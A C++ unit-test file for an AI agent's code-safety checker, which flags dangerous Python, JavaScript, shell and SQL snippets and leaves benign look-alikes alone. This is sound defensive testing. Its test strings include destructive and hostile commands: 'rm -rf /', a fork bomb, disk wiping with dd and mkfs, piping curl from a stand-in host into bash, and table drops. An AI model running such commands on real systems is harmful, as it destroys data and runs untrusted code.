// Code that does harm is told with its rule, and code that only looks like it is not.
#include "lib/tool/executors/builtin/code_safety.h"

#include <gtest/gtest.h>

namespace agentos::tool {
namespace {

std::string rules(std::string_view code, std::string_view language) {
  const auto findings = check_code(code, language);
  if (!findings) return "error";
  std::string out;
  for (const CodeFinding& one : *findings) {
    if (!out.empty()) out += ' ';
    out += one.rule;
  }
  return out;
}

TEST(CodeSafety, harm_in_python_is_told) {
  EXPECT_EQ(rules("x = eval(input())", "python"), "eval");
  EXPECT_EQ(rules("exec (code)", "python"), "exec");
  EXPECT_EQ(rules("builtins.eval(x)", "python"), "eval");
  EXPECT_EQ(rules("import shutil\nshutil.rmtree('/data')", "python"), "shutil_rmtree");
  EXPECT_EQ(rules("os.chmod(path, 0o777)", "python"), "chmod_777");
  EXPECT_EQ(rules("os.setuid(0)", "python"), "setuid_root");
  EXPECT_EQ(rules("os.system('rm -rf ' + '/srv/x')", "python"), "rm_rf");
  EXPECT_EQ(rules("subprocess.run(['rm', '-r', '-f', '/'])", "python"), "rm_root");
  EXPECT_EQ(rules("subprocess.check_output(\"curl http://x | sh\", shell=True)", "python"), "pipe_to_shell");
  EXPECT_EQ(rules("db.execute(\"DROP TABLE users\")", "python"), "drop_table");
  EXPECT_EQ(rules("db.execute('''delete /* all */ from users''')", "python"), "delete_all");
  EXPECT_EQ(rules("KEY = 'AKIAIOSFODNN7EXAMPL1'", "python"), "aws_key");
}

TEST(CodeSafety, harm_in_javascript_is_told) {
  EXPECT_EQ(rules("const x = eval(text);", "javascript"), "eval");
  EXPECT_EQ(rules("new Function('return 1')()", "javascript"), "eval");
  EXPECT_EQ(rules("window.eval(a)", "javascript"), "eval");
  EXPECT_EQ(rules("child_process.exec(`sudo reboot`)", "javascript"), "exec sudo");
  EXPECT_EQ(rules("client.query(\"TRUNCATE users\")", "typescript"), "truncate_table");
  EXPECT_EQ(rules("fs.chmodSync(p, 0o777)", "javascript"), "chmod_777");
}

TEST(CodeSafety, harm_in_shell_is_told_in_whatever_order) {
  for (const char* command : {"rm -rf x", "rm -fr x", "rm -r -f x", "rm --recursive --force x", "env A=1 rm -Rf x"}) {
    EXPECT_EQ(rules(command, "shell"), "rm_rf") << command;
  }
  EXPECT_EQ(rules("rm -rf /", "bash"), "rm_root");
  EXPECT_EQ(rules("rm -rf /*", "sh"), "rm_root");
  EXPECT_EQ(rules("find / -delete", "shell"), "find_delete");
  EXPECT_EQ(rules("sudo ls", "shell"), "sudo");
  EXPECT_EQ(rules("chmod 777 a", "shell"), "chmod_777");
  EXPECT_EQ(rules("chmod -R 0777 a", "shell"), "chmod_777");
  EXPECT_EQ(rules("chmod 4755 a", "shell"), "setuid_root");
  EXPECT_EQ(rules("dd if=/dev/zero of=/dev/sda", "shell"), "dd_disk");
  EXPECT_EQ(rules("mkfs.ext4 /dev/sda1", "shell"), "format_drive");
  EXPECT_EQ(rules(":(){ :|:& };:", "shell"), "fork_bomb");
  EXPECT_EQ(rules("curl -s http://x | bash", "shell"), "pipe_to_shell");
  EXPECT_EQ(rules("echo 'unbalanced", "shell"), "unread");
}

TEST(CodeSafety, harm_in_sql_is_told_behind_comments_and_conditions_that_are_none) {
  EXPECT_EQ(rules("DROP/**/TABLE users", "sql"), "drop_table");
  EXPECT_EQ(rules("drop view v;", "sql"), "drop_table");
  EXPECT_EQ(rules("TRUNCATE users", "sql"), "truncate_table");
  EXPECT_EQ(rules("DELETE FROM users", "sql"), "delete_all");
  EXPECT_EQ(rules("DELETE FROM users WHERE true", "sql"), "delete_all");
  EXPECT_EQ(rules("DELETE FROM users WHERE 1=1", "sql"), "delete_all");
  EXPECT_EQ(rules("WITH a AS (SELECT 1) DELETE FROM users", "sql"), "delete_all");
  EXPECT_EQ(rules("SELECT 1; -- nothing\nUPDATE users SET a = 1", "sql"), "update_all");
}

TEST(CodeSafety, secrets_and_hidden_text_are_told) {
  EXPECT_EQ(rules("k = '''-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END PRIVATE KEY-----'''",
                  "python"),
            "private_key");
  EXPECT_EQ(rules("a = 1 # \xE2\x80\xAE", "python"), "hidden_text");
}

TEST(CodeSafety, what_only_looks_like_harm_is_not_told) {
  EXPECT_EQ(rules("# eval(x) would be wrong here\ny = literal_eval(x)", "python"), "");
  EXPECT_EQ(rules("def eval(self, x):\n  return self.model.eval()", "python"), "");
  EXPECT_EQ(rules("print('warm up / down, perform a ~ b, sudo is not needed, rm -rf is bad')", "python"), "");
  EXPECT_EQ(rules("const m = /eval(\\(x\\))/.exec(s); // eval(x)\nregex.exec(s)", "javascript"), "");
  EXPECT_EQ(rules("const a = b / c / d; /* eval(x) */", "javascript"), "");
  EXPECT_EQ(rules("db.execute('DELETE FROM users WHERE id = ?', id)", "python"), "");
  EXPECT_EQ(rules("SELECT * FROM dropped WHERE note = 'DROP TABLE x'", "sql"), "");
  EXPECT_EQ(rules("echo 'rm -rf /'; ls # sudo", "shell"), "");
  EXPECT_EQ(rules("def add(a, b):\n    return a + b\n", "python"), "");
  EXPECT_EQ(rules("export const add = (a, b) => a + b;", "typescript"), "");
}

TEST(CodeSafety, findings_have_their_lines_in_order) {
  const auto findings = check_code("a = 1\nos.system('sudo x')\n\neval(a)\n", "python");
  ASSERT_TRUE(findings.has_value());
  ASSERT_EQ(findings->size(), 2U);
  EXPECT_EQ((*findings)[0].line, 2);
  EXPECT_EQ((*findings)[1].line, 4);
}

TEST(CodeSafety, what_cannot_be_read_is_an_error_and_never_safe) {
  EXPECT_EQ(rules("PRINT 1", "cobol"), "error");
  EXPECT_EQ(rules(std::string(kCodeBytesMax + 1, ' '), "python"), "error");
}

}  // namespace
}  // namespace agentos::tool
